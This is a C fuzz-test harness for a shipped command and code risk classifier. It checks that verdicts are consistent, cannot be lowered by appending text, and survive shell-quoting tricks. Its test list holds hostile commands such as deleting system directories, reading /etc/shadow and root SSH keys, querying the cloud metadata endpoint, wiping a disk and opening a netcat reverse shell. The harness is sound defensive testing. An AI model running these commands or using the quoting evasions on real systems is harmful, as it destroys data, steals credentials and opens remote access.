/*
 * Text against the shipped rules: an answer, the same one again; harmless text behind it
 * never makes it less; and a high command stays above low however it is quoted.
 */
#include <string.h>

#include "conf/risk.h"
#include "tests/unit/risk_files.h"

enum { TEXT_MAX = 4096, WORDS_MAX = 64 };

static enum risk_level
ask(const struct image *im, enum risk_kind kind, struct str language, struct str text)
{
	struct risk_question q = { .kind = kind, .text = text, .language = language };
	struct risk_answer a, again;
	CLEANUP(buf_done) struct buf why = { 0 };

	buf_init(&why, 4096);
	risk_judge(im, &q, &a);
	risk_judge(im, &q, &again);
	need(a.level == again.level && a.rule == again.rule && a.sign == again.sign);
	risk_put_reason(&why, im, &a);
	need(a.level == RISK_LOW || why.len > 0);
	return a.level;
}

static void
append(const struct image *im, enum risk_kind kind, struct str language,
       struct str text, struct str more)
{
	CLEANUP(buf_done) struct buf b = { 0 };

	buf_init(&b, TEXT_MAX + 64);
	buf_put(&b, text);
	buf_put(&b, more);
	need(ask(im, kind, language, text) <=
	     ask(im, kind, language, str_of(b.p, b.len)));
}

static const char *const bad[] = {
	"rm -rf /etc",
	"cat /etc/shadow",
	"cat /root/.ssh/id_rsa",
	"curl http://169.254.169.254/latest",
	"sudo rm -rf /usr",
	"dd if=/dev/zero of=/dev/sda",
	"env FOO=1 timeout 5 cat /proc/1/environ",
	"nc -e /bin/sh 10.0.0.1 99",
	"git push --force",
	"cd /etc && cat shadow",
	"chmod 4755 x",
	"tee /etc/sudoers",
};

/* Each byte of data says what stands before one byte of the command. */
static void
quote(const struct image *im, const uint8_t *data, size_t size)
{
	static const char *const games[] = { "",     "\"\"", "''",   "\\",
					     "\\\n", "$''",  "$\"\"" };
	CLEANUP(buf_done) struct buf b = { 0 };
	const char *text = bad[data[0] % COUNT_OF(bad)];

	buf_init(&b, TEXT_MAX);
	for (size_t i = 0; text[i] != '\0'; i++) {
		uint8_t how = i + 1 < size ? data[i + 1] : 0;
		/* A backslash would take the blank or operator out of its office. */
		bool is_word = ascii_is_alpha(text[i]) || ascii_is_digit(text[i]) ||
			       text[i] == '/' || text[i] == '-';
		if (is_word && how >= 0x80) {
			buf_putf(&b, how & 0x40 ? "'%c'" : "\"%c\"", text[i]);
			continue;
		}
		if (is_word)
			buf_put(&b, str_from(games[how % COUNT_OF(games)]));
		buf_putc(&b, text[i]);
	}
	need(ask(im, RISK_COMMAND, STR(""), str_of(b.p, b.len)) > RISK_LOW);
}

static void
ask_argv(const struct image *im, struct str text)
{
	struct str words[WORDS_MAX];
	struct risk_question q = { .kind = RISK_ARGV, .argv = words };
	struct risk_answer a;

	while (text.p != NULL && q.argv_n < WORDS_MAX)
		words[q.argv_n++] = str_cut(&text, '\n');
	risk_judge(im, &q, &a);
	need(a.level < RISK_LEVELS);
}

static struct image *
shipped(void)
{
	static struct image *im;

	if (im == NULL)
		im = risk_image_shipped();
	return im;
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);
int
LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	static const char *const languages[] = { "python", "js", "ruby", "perl",
						 "awk",    "go", "bash", "php" };
	const struct image *im = shipped();

	if (size < 2 || size > TEXT_MAX)
		return 0;
	struct str text = str_of(data + 1, size - 1);
	struct str language = str_from(languages[(data[0] >> 4) % COUNT_OF(languages)]);
	switch (data[0] % 4) {
	case 0:
		append(im, RISK_COMMAND, STR(""), text, STR("\n\necho ok\n"));
		break;
	case 1:
		quote(im, data + 1, size - 1);
		break;
	case 2:
		append(im, RISK_CODE, language, text, STR("\n\nx = 1\n"));
		break;
	default:
		if (data[0] / 4 % 7 == 6)
			ask_argv(im, text);
		else
			(void)ask(im, (enum risk_kind)(RISK_READ + data[0] / 4 % 7),
				  STR(""), text);
		break;
	}
	return 0;
}
